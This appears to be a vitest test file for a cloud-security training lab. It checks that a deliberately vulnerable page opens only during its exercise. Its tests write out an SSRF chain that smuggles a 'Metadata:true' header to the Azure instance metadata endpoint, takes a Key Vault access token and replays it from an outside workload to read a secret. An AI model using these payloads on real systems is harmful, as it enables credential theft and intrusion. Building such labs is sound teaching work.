/**
 * Exercises that need containers, by the lab API alone: each fails as it begins, and passes once its task was done for real.
 * And the page with the hole: it is there while its exercise is on, and at no other time.
 */
import type { LabClient } from '@managed-identity-lab/client';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type Lab, labApi, startLab } from './lab.ts';

const IMDS = 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01';
const VAULT = 'resource=https://vault.azure.net';
const PAGE = 'http://vm-app01.internal.cloudapp.net';
const SECRET = 'https://kv-lab.vault.azure.net/secrets/ConnectionString?api-version=7.4';

let lab: Lab;
let api: LabClient;
beforeAll(async () => {
  lab = await startLab({ variant: 'default' });
  api = await labApi(lab);
});
afterAll(() => lab?.down());

type Headers = readonly (readonly [name: string, value: string])[];
const send = async (workload: string, url: string, headers: Headers = []) => {
  const answer = await api.request(workload, { method: 'GET', url, headers });
  return 'error' in answer ? { error: answer.error.code } : { status: answer.status, body: answer.body };
};
const preview = (way: string, further = '', headers: Headers = []) =>
  send('outsider', `${PAGE}/${way}?url=${IMDS}%26${VAULT}${further}`, headers);
const tokenIn = ({ body = '{}' }: { body?: string }): string => JSON.parse(body).access_token;
const secret = (workload: string, token: string) => send(workload, SECRET, [['Authorization', `Bearer ${token}`]]);

/** Begins it, and expects that nothing of it is done yet. */
async function begin(id: Parameters<LabClient['exercises']['start']>[0]) {
  const { durationMs } = await api.exercises.start(id);
  expect(durationMs).toBeLessThan(5_000);
  const missing = async () =>
    (await api.exercises.check(id)).findings.filter(({ passed }) => !passed).map((one) => one.id);
  expect(await missing()).toHaveLength((await api.exercises.check(id)).findings.length);
  return missing;
}

it('ssrf: two guards hold, the third way gives the token away, and nobody listens before and after', async () => {
  expect(await preview('preview')).toEqual({ error: 'refused' });
  const missing = await begin('ssrf');
  expect(await preview('preview')).toMatchObject({ status: 400, body: expect.stringContaining('metadata header') });
  const forwarded = await preview('proxy', '', [['Metadata', 'true']]);
  expect(forwarded).toMatchObject({ status: 400, body: expect.stringContaining('X-Forwarded-For') });
  const given = await preview('fetch', '&header=Metadata:true');
  expect(await secret('outsider', tokenIn(given))).toMatchObject({ status: 200 });
  expect(await missing()).toEqual([]);
  for (const elsewhere of ['http://example.com/', 'http://10.88.255.249:8080/', 'https://portal.front:8080/']) {
    const refused = await send('outsider', `${PAGE}/fetch?url=${elsewhere}`);
    expect(refused).toMatchObject({ status: 502, body: expect.stringContaining('NotALabName') });
  }
  await api.exercises.start('stolen-token');
  expect(await preview('preview')).toEqual({ error: 'refused' });
});

it('ssrf: the page is closed by a reset of the lab, and by the end of its machine', async () => {
  await begin('ssrf');
  await api.state.reset();
  expect(await preview('preview')).toEqual({ error: 'refused' });
  await begin('ssrf');
  await api.clock.forward(60); // workloads are started again
  expect(await preview('preview')).toEqual({ error: 'refused' });
  await api.state.reset();
});

it('ssrf: the page is on one network alone', async () => {
  await begin('ssrf');
  const answers = await lab.send('imds', [{ url: 'http://169.254.169.250/preview' }]);
  expect(answers.map(({ error }) => error)).toEqual(['ECONNREFUSED']);
  await api.exercises.reset('ssrf');
});

it('stolen-token: a token is good elsewhere, until it expires', async () => {
  const missing = await begin('stolen-token');
  const token = tokenIn(await send('app', `${IMDS}&${VAULT}`, [['Metadata', 'true']]));
  expect(await secret('outsider', token)).toMatchObject({ status: 200 });
  expect(await missing()).toEqual(['expired']);
  await api.clock.forward(90_000);
  expect(await secret('outsider', token)).toMatchObject({ status: 401 });
  expect(await missing()).toEqual([]);
  await api.state.reset();
});
